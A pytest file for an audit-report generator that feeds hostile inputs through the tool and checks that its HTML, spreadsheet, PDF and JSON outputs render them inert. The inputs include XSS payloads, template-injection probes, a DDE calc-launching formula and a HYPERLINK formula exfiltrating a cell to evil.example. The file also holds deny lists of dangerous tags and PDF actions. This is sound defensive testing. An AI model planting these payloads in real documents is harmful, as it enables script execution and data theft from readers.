"""Evidence and declarations written by an attacker: shown as text, and never anything more.

The project below puts attack strings wherever a log, a table or audit.yaml can carry text, and makes
all four outputs of it, with excerpts. The tests look at each output as its reader would.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shutil
import subprocess
import zipfile
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING, Any

import openpyxl
import pypdf
import pytest
from helpers.fixtures import once
from helpers.pages import Page, pdf_text, squeezed, tag
from helpers.workshop import (
    GATEWAY_MAP,
    audit,
    criterion,
    csv_text,
    draft,
    gateway_rows,
    inspect_log,
    sample,
    source,
    write_project,
)

from auditgen.cli import run
from auditgen.report import Document

if TYPE_CHECKING:
    from collections.abc import Iterator

SCRIPT = "<script>alert(1)</script>"
STYLE = "</style><script>alert(2)</script>"
IMAGE = '"><img src=x onerror=alert(3)>'
SVG = "</title></svg><svg onload=alert(4)>"
JINJA = "{{7*7}}{% raw %}{{ cycler.__init__ }}"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd"
MINUS = "-2+3+cmd"
TAB = "\t=1+1"
RETURN = "\r=2+2"
CDATA = "]]><![CDATA[<b>x</b>]]><!-- -->"
URL = "javascript:alert(5)"
REMOTE = '<link rel=stylesheet href="http://evil.example/x.css">'
ENTITY = "&lt;script&gt; &#60;script&#62; &amp;"
TICKS = "`<script>alert(6)</script>`"
ANSI = "\x1b[31mred\x1b]0;title\x07"
BIDI = "\u202egpj.exe\u2066isolate"
NUL = "a\x00b"
EMOJI = "\U0001f600\U0001f469\u200d\U0001f4bb \u4e2d\u6587 \u0627\u0644"
SURROGATE = "lone \ud800 half"
LONG = "L" * 100_000
BREAKS = "first\nP9: contradicted\n\n# heading\n- item"

TEXTS = (SCRIPT, STYLE, IMAGE, SVG, JINJA, LINK, COMMAND, SUM, MINUS, CDATA, URL, REMOTE, ENTITY)
"""Attacks that every output must show as they are."""
ALL = (*TEXTS, TICKS, TAB, RETURN, ANSI, BIDI, NUL, EMOJI, SURROGATE, BREAKS)
BUNDLES = [
    f"{SCRIPT} {STYLE} {IMAGE}",
    f"{SVG} {JINJA} {CDATA}",
    f"{LINK} {COMMAND} {SUM} {MINUS}",
    f"{URL} {REMOTE} {ENTITY} {TICKS}",
    f"{ANSI} {BIDI} {NUL} {EMOJI} {SURROGATE}",
]
"""Each fits into the excerpt of one exhibit."""
MODEL = f"model {SCRIPT}{LINK}"
FILES = ['lab"><img src=x onerror=alert(7)>.json', "=lab@SUM(1).json", "lab{{7*7}} \u202egpj.json"]


def bad(bundle: int, number: int, category: str) -> dict[str, Any]:
    """A record against the promise: it becomes an exhibit."""
    text = BUNDLES[bundle]
    out = sample(
        f"{number} {SCRIPT}{LINK}", refused=False, asked=text, answered=text, category=category
    )
    out["metadata"]["note"] = text
    return out


def project(folder: Path) -> Path:
    """The hostile project."""
    categories = [SCRIPT, IMAGE, LINK, SUM, JINJA, CDATA, BREAKS, LONG[:300]]
    good = [
        sample(n, category=categories[n % len(categories)], asked=LONG, answered=LONG)
        for n in range(40)
    ]
    value = audit(period={"start": "2026-09-01", "end": "2026-09-30"})
    value["organisation"]["name"] = f"Acme {SCRIPT}{BREAKS}"
    value["system"] = {
        "name": f"S {IMAGE}",
        "version": JINJA,
        "models": [MODEL],
        "description": SVG,
    }
    value["report"] |= {
        "prepared_for": f"board {STYLE}",
        "prepared_by": {"name": LINK, "role": CDATA},
        "classification": f"{SCRIPT}{BREAKS}",
        "redaction": "excerpts",
    }
    value["principles"] = [
        {
            "id": f"P{n}",
            "title": f"{text} title",
            "promise": f"{text} {BREAKS} promise",
            "promised_in": f"{text} policy",
            "criteria": [criterion(f"C{n}", sources=[f"lab{n}"], at_least=0.5)],
        }
        for n, text in enumerate((f"{SCRIPT}{IMAGE}", f"{SVG}{JINJA}", f"{LINK} {CDATA}"))
    ]
    value["principles"][0]["criteria"].append(
        criterion("C9", indicator="monitoring-coverage", sources=["gw"], at_least=0.01)
    )
    value["also_measured"] = [
        {"id": "M1", "indicator": "over-refusal", "sources": ["lab0"], "note": f"{STYLE}{REMOTE}"}
    ]
    value["sources"] = []
    for n, file in enumerate(FILES):
        block = source(f"lab{n}", f"evidence/{n}/*")
        block["title"] = f"{SVG} {n}"
        block["provider"] = {"name": f"{IMAGE} {n}", "independence": "external", "paid_by": SUM}
        block["custody"] |= {"received_from": COMMAND, "note": f"{STYLE}{TAB}"}
        block["model"] = {"recorded": MODEL, "is": MODEL, "basis": f"{CDATA} {TICKS}"}
        block["map"]["language"] = {"from": f"metadata.{SCRIPT}{file}"}
        value["sources"].append(block)
    value["sources"].append(source("gw", "evidence/gw/*", "self", map=gateway_map()))
    value["documents"] = [
        {
            "id": "D1",
            "kind": "DO-IRP",
            "title": f"{SCRIPT} plan",
            "file": f"documents/{IMAGE}.md",
            "version": LINK,
            "dated": "2026-05-01",
            "owner": COMMAND,
        }
    ]
    value["expected"] = [{"id": "X1", "title": f"{IMAGE}{LINK} expected", "suite": SCRIPT}]
    files: dict[str, Any] = {}
    for n, file in enumerate(FILES):
        rows = [bad(b, 100 + b, categories[b]) for b in range(len(BUNDLES))]
        log = inspect_log(
            good + rows,
            task=f"task {SVG}{LINK}{ANSI}",
            model=MODEL,
            run=f"run {STYLE}{BIDI}{n}",
            status=f"{IMAGE}{NUL}",
        )
        files[f"evidence/{n}/{file}"] = json.dumps(log)
    rows_ = gateway_rows([date(2026, 9, 1), date(2026, 9, 2)], model=MODEL)
    rows_ += [{**rows_[0], "id": SCRIPT, "model": LINK, "category": IMAGE, "class": COMMAND}]
    files["evidence/gw/gw.csv"] = csv_text([{"category": "ordinary", **row} for row in rows_])
    files["evidence/0/broken\x1b[31m.json"] = b'{"version": 2, "status": "<script>", "eval": '
    return write_project(folder, value, files)


def gateway_map() -> dict[str, Any]:
    return {**json.loads(json.dumps(GATEWAY_MAP)), "category": {"from": "category"}}


@dataclass(frozen=True)
class Outputs:
    """The four drafts."""

    folder: Path

    @property
    def html(self) -> str:
        return (self.folder / "report.html").read_text("utf-8")

    @property
    def json(self) -> dict[str, Any]:
        value: dict[str, Any] = json.loads((self.folder / "report.json").read_bytes())
        return value

    @property
    def pdf(self) -> Path:
        return self.folder / "report.pdf"

    @property
    def xlsx(self) -> Path:
        return self.folder / "report.xlsx"


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Outputs:
    def make(folder: Path) -> None:
        draft(project(folder / "project"), folder / "out")

    return Outputs(once(tmp_path_factory, "hostile", make) / "out")


@pytest.fixture(scope="module")
def page(outputs: Outputs) -> Page:
    return Page(outputs.html)


class TestHtml:
    """As a browser parses it."""

    def test_nothing_runs(self, page: Page) -> None:
        tags = {tag(e) for e in page.all()}
        assert not tags & {
            "script",
            "img",
            "iframe",
            "object",
            "embed",
            "link",
            "base",
            "form",
            "b",
        }
        for element in page.all():
            for name, value in element.attrib.items():
                bare = name.rpartition("}")[2].lower()
                assert not bare.startswith("on"), (element.tag, name)
                if bare in {
                    "href",
                    "src",
                    "srcset",
                    "action",
                    "data",
                    "poster",
                    "style",
                    "xlink:href",
                }:
                    assert value.startswith("#"), (element.tag, name, value[:80])
        assert len(page.all("style")) == 1
        assert len(page.all("title")) == 1 + len(page.all("svg")) - marks(page)

    def test_policy_and_its_hash(self, page: Page) -> None:
        (policy,) = [
            e.get("content")
            for e in page.all("meta")
            if e.get("http-equiv", "").lower() == "content-security-policy"
        ]
        assert policy is not None
        (style,) = page.all("style")
        digest = base64.b64encode(hashlib.sha256((style.text or "").encode()).digest()).decode()
        assert f"style-src 'sha256-{digest}'" in policy
        assert policy.startswith("default-src 'none'; ")
        for part in ("base-uri 'none'", "form-action 'none'", "font-src data:", "img-src data:"):
            assert part in policy
        assert "unsafe" not in policy
        assert "http" not in policy

    def test_everything_is_shown_as_text(self, page: Page) -> None:
        words = squeezed(page.words)
        for text in TEXTS:
            assert squeezed(text) in words, text
        assert squeezed(TICKS.strip("`")) in words
        assert "{{7*7}}" in page.words
        assert "49" not in re.findall(r"S \S+ (\S+)", page.words)

    def test_what_no_reader_sees_is_shown_as_such(self, page: Page) -> None:
        assert not re.search(
            "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]",
            page.text,
        )
        assert "\ufffd[31mred" in page.words
        assert "\ufffdgpj.exe\ufffdisolate" in page.words
        assert "a\ufffdb" in page.words
        assert EMOJI.split(maxsplit=1)[0] in page.words

    def test_long_texts_are_cut_and_say_so(self, page: Page) -> None:
        assert "L" * 10_000 not in page.text

    def test_breaks_begin_no_line_of_ours(self, page: Page) -> None:
        """A promise with line breaks stays one promise."""
        assert [e.text for e in page.all("h1")] == ["What the evidence says about three promises"]
        assert len(page.all("article")) == 3

    def test_no_remote_word_in_any_attribute(self, page: Page) -> None:
        for element in page.all():
            for name, value in element.attrib.items():
                if name.rpartition("}")[2] in {"content", "aria-label", "xmlns"}:
                    continue  # text that is read out, not followed
                assert "http://" not in value
                assert "javascript:" not in value


def marks(page: Page) -> int:
    """Small drawings that only repeat a word that stands beside them."""
    return sum(1 for e in page.all("svg") if "mark" in (e.get("class") or "").split())


@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs Chromium")
def test_chromium_finds_nothing_to_run_or_to_fetch(outputs: Outputs, tmp_path: Path) -> None:
    log = tmp_path / "net.json"
    command = [
        "chromium",
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--host-resolver-rules=MAP * ~NOTFOUND",
        f"--user-data-dir={tmp_path / 'profile'}",
        f"--log-net-log={log}",
        "--enable-logging=stderr",
        "--v=0",
        "--virtual-time-budget=3000",
        "--dump-dom",
        (outputs.folder / "report.html").as_uri(),
    ]
    done = subprocess.run(command, capture_output=True, timeout=100, check=True)
    dom = Page(done.stdout.decode("utf-8"))
    assert not dom.all("script", "img", "iframe")
    assert squeezed(dom.words) == squeezed(Page(outputs.html).words)
    console = [
        line for line in done.stderr.decode("utf-8", "replace").splitlines() if "CONSOLE" in line
    ]
    assert console == []
    wanted = set(re.findall(r'"url":"([^"]+)"', log.read_text("utf-8", "replace")))
    page_itself = (outputs.folder / "report.html").as_uri()
    asked = {url for url in wanted if url.startswith(("http", "ftp", "ws", "file"))}
    assert "evil.example" not in log.read_text("utf-8", "replace")
    assert {url for url in asked if url.startswith("file")} <= {page_itself}
    assert not [url for url in asked if "evil" in url]


class TestWorkbook:
    """As Excel, LibreOffice and openpyxl read it."""

    def test_no_cell_is_a_formula(self, outputs: Outputs) -> None:
        book = openpyxl.load_workbook(outputs.xlsx)
        seen = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate)
                    assert cell.hyperlink is None
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
                        if cell.value[:1] in set("=+-@\t\r"):
                            assert cell.quotePrefix, (sheet.title, cell.coordinate)
        assert not book.defined_names
        starting = [text for text in seen if text[:1] in {"=", "+", "-", "@"}]
        assert any(text.startswith("=HYPERLINK(") for text in starting)
        assert any(text.startswith("+cmd|") for text in starting)

    def test_no_formula_and_no_relation_to_outside_in_its_parts(self, outputs: Outputs) -> None:
        with zipfile.ZipFile(outputs.xlsx) as parts:
            for name in parts.namelist():
                text = parts.read(name).decode("utf-8", "replace")
                assert "<f>" not in text
                assert "<f " not in text
                assert 'TargetMode="External"' not in text
                assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
            assert not [
                n for n in parts.namelist() if "external" in n.lower() or "vba" in n.lower()
            ]

    def test_everything_is_shown_as_text(self, outputs: Outputs) -> None:
        book = openpyxl.load_workbook(outputs.xlsx, read_only=True)
        everything = "\n".join(
            str(value)
            for sheet in book.worksheets
            for row in sheet.iter_rows(values_only=True)
            for value in row
            if value is not None
        )
        book.close()
        for text in TEXTS:
            assert text in everything, text
        assert "\ufffd[31mred" in everything
        assert max(len(v) for v in everything.split("\n")) < 32_768

    @pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")
    def test_libreoffice_opens_it(self, outputs: Outputs, tmp_path: Path) -> None:
        command = [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(tmp_path / "csv"),
            str(outputs.xlsx),
        ]
        subprocess.run(command, capture_output=True, timeout=150, check=True)
        texts = {p.stem: p.read_text("utf-8") for p in (tmp_path / "csv").glob("*.csv")}
        assert len(texts) >= 10
        everything = "\n".join(texts.values()).replace('""', '"')
        assert "HYPERLINK" in everything
        assert LINK in everything
        assert COMMAND in everything
        for wrong in ("Err:5", "#NAME?", "#REF!", "#VALUE!"):
            assert wrong not in everything


class TestPdf:
    """As a PDF reader acts on it."""

    def test_it_does_nothing(self, outputs: Outputs) -> None:
        reader = pypdf.PdfReader(outputs.pdf)
        names = {str(name) for value in objects(reader) for name in value}
        assert {"/StructTreeRoot", "/Pages", "/Dests"} & names  # the search does see the file
        assert not names & {
            "/JS",
            "/JavaScript",
            "/OpenAction",
            "/AA",
            "/Launch",
            "/URI",
            "/SubmitForm",
        }
        kinds = {str(v.get("/S")) for v in objects(reader) if "/S" in v}
        assert not kinds & {
            "/URI",
            "/JavaScript",
            "/Launch",
            "/SubmitForm",
            "/GoToR",
            "/ImportData",
        }
        assert "/EmbeddedFiles" not in names

    def test_everything_is_shown_as_text(self, outputs: Outputs) -> None:
        text = squeezed(pdf_text(outputs.pdf))
        for attack in TEXTS:
            assert squeezed(attack) in text, attack

    def test_its_title_is_ours(self, outputs: Outputs) -> None:
        meta = pypdf.PdfReader(outputs.pdf).metadata
        assert meta is not None
        assert str(meta.title).startswith("Evidence report R-1: S ")


def objects(reader: pypdf.PdfReader) -> Iterator[Any]:
    """Every dictionary of the file."""
    for number in range(1, len(reader.xref_objStm) + sum(len(x) for x in reader.xref.values()) + 2):
        try:
            value = reader.get_object(number)
        except (pypdf.errors.PdfReadError, KeyError):
            continue
        yield from dictionaries(value)


def dictionaries(value: Any, depth: int = 0) -> Iterator[Any]:
    if isinstance(value, pypdf.generic.DictionaryObject):
        yield value
        parts = list(value.values())
    elif isinstance(value, pypdf.generic.ArrayObject):
        parts = list(value)
    else:
        return
    for part in parts:
        if depth < 8 and not isinstance(part, pypdf.generic.IndirectObject):
            yield from dictionaries(part, depth + 1)


def test_json_reads_back(outputs: Outputs) -> None:
    data = (outputs.folder / "report.json").read_bytes()
    document = Document.model_validate_json(data)
    assert document.principles
    everything = " ".join(strings(json.loads(data)))
    for text in TEXTS:
        assert text in everything, text
    assert "L" * 10_000 not in everything


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for part in value.values():
            yield from strings(part)
    elif isinstance(value, list):
        for part in value:
            yield from strings(part)


def test_the_terminal_sees_no_escape(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = project(tmp_path / "p")
    arguments = [
        "report",
        str(path),
        "-o",
        str(tmp_path / "out"),
        "--unsigned",
        "--formats",
        "json",
    ]
    assert run([*arguments, "--as-of", "2026-10-05"]) == 0
    assert run(["inspect", str(path.parent / "evidence")]) == 0
    assert run([*arguments, "--as-of", "2026-10-05", "--strict", "--force"]) == 4
    said = capsys.readouterr()
    for char in "\x1b\x07\x00\r\u202e\u2066":
        assert char not in said.out + said.err, repr(char)
